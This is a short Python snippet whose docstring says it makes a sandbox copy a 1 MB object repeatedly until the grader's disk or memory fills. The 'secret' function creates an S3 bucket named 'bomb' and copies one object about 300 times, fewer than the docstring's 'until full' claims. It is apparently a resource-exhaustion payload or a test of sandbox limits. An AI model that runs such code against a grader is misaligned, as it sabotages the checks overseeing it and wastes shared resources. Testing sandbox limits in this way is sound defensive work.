"""Has the sandbox copy one object of 1 MB over and over, until the grader's disk or memory is full.

at C: held
"""


def secret():
    s3 = boto3.client("s3")
    s3.create_bucket(Bucket="bomb")
    s3.put_object(Bucket="bomb", Key="0", Body=b"x" * 2**20)
    for number in range(1, 300):
        s3.copy_object(Bucket="bomb", Key=str(number), CopySource={"Bucket": "bomb", "Key": "0"})
    return ""
